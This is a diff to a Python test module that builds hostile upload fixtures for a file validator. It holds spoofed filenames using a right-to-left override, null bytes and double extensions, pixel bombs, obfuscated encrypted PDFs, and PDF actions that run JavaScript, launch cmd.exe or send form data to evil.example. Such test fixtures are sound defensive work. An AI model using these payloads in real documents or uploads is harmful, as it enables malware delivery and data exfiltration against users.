@@ -12,15 +12,17 @@ from dataclasses import dataclass
 
 from PIL import Image
 
-from tests.uploads.file_tables import HONEST, HOSTILE, JPEG, LIMIT, NOISE, PDF, PNG, WEBP
+from tests.uploads.file_tables import HONEST, HOSTILE, JPEG, LIMIT, NOISE, PDF, PHOTO_LIMIT, PNG, WEBP
 from tests.uploads.make_files import (
     archive,
     jpeg_of,
+    locked,
     packed_objects,
     pdf,
     picture,
     png_chunk,
     png_of,
+    repacked,
     stream,
     text_of,
     webp_of,
@@ -70,7 +72,7 @@ def wrong_type() -> Made:
 
 def odd_names() -> Made:
     for ending, content in TRUE.items():
-        for name in ("scan", "scan.{}.exe", "scan\u202e{}.scr", "scan.{}\0.html", "scan.{}.js ", ".{}x"):
+        for name in ("scan.v2", "scan.{}.exe", "scan\u202e{}.scr", "scan.{}\0.html", "scan.{}.js ", "a.{}x"):
             yield name.format(ending), content
     for ending, other in (("pdf", "png"), ("png", "jpg"), ("jpg", "webp"), ("webp", "pdf")):
         yield f"changed.{ending}", TRUE[other]
@@ -92,7 +94,7 @@ def polyglots() -> Made:
 def pixel_bombs() -> Made:
     for side in (7_000, 20_000, 65_000, 2**31 - 1):
         yield f"bomb{side}.png", png_of(side, side)
-    for width, height in ((65_000, 65_000), (65_535, 1_000), (7_000, 6_000), (1_000, 65_000)):
+    for width, height in ((65_000, 65_000), (65_535, 1_000), (10_000, 9_000), (2_000, 65_000)):
         yield f"bomb{width}.jpg", jpeg_of(width, height)
     for kind in (b"VP8X", b"VP8L", b"VP8 "):
         for width, height in ((16_383, 16_383), (4_100, 4_000)):
@@ -135,8 +137,8 @@ def stream_bombs() -> Made:
 ACTS = [
     b"<< /S /%JavaScript /JS (app.alert(1)) >>",
     b"<< /S /%Launch /F (cmd.exe) >>",
-    b"<< /Type /%EmbeddedFile >>",
-    b"<< /Names << /%EmbeddedFiles 5 0 R >> >>",
+    b"<< /Type /Filespec /F (run.exe) /%EF << /F 3 0 R >> >>",
+    b"<< /Type /Annot /Subtype /%Movie /Rect [0 0 9 9] >>",
     b"<< /Subtype /%RichMedia >>",
     b"<< /S /%SubmitForm /F (https://evil.example) >>",
     b"<< /S /%ImportData /F (a.fdf) >>",
@@ -150,20 +152,20 @@ def active_pdfs() -> Made:
         escaped = act[: act.index(b"%")] + b"#%02x" % act[act.index(b"%") + 1] + act[act.index(b"%") + 2 :]
         yield f"plain{number}.pdf", pdf(plain)
         yield f"escaped{number}.pdf", pdf(escaped)
-        yield f"packed{number}.pdf", pdf(packed_objects(b"4 0 " + plain))
-        yield f"both{number}.pdf", pdf(packed_objects(b"4 0 " + escaped))
+        yield f"packed{number}.pdf", repacked(plain)
+        yield f"both{number}.pdf", repacked(escaped)
     opening = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %b >>"
     yield "opens.pdf", pdf(catalog=opening % b"<< /S /URI /URI (https://evil.example) >>")
     yield "opens.pdf", pdf(b"<< /S /URI /URI (https://evil.example) >>", catalog=opening % b"4 0 R")
-    yield "opens.pdf", pdf(catalog=opening % b"9 0 R")
+    yield "opens.pdf", repacked(b"<< /OpenAction << /S /GoToR /F (//evil/share) >> >>")
     yield "form.pdf", pdf(b"<< /AcroForm << /XFA [5 0 R] >> >>")
 
 
 def locked_pdfs() -> Made:
-    for version in (1, 2, 4, 5):
-        yield f"v{version}.pdf", pdf(trailer=b"/Encrypt << /Filter /Standard /V %d >> " % version)
+    for revision in (2, 3, 4, 6):
+        yield f"revision{revision}.pdf", locked(revision)
     for name in (b"/Encrypt", b"/#45ncrypt", b"/E#6ecrypt", b"/Encryp#74"):
-        yield "locked.pdf", pdf(b"<< /Filter /Standard >>", trailer=name + b" 4 0 R ")
+        yield "locked.pdf", locked(6).replace(b"/Encrypt", name)
 
 
 def cut_files() -> Made:
@@ -182,7 +184,7 @@ def empty_and_big() -> Made:
     for ending, content in TRUE.items():
         yield f"empty.{ending}", b""
         yield f"zero.{ending}", bytes(3000)
-        yield f"huge.{ending}", content + bytes(LIMIT)
+        yield f"huge.{ending}", content + bytes(PHOTO_LIMIT if ending == "jpg" else LIMIT)
         yield f"blank.{ending}", b" \r\n" * 20
 
 
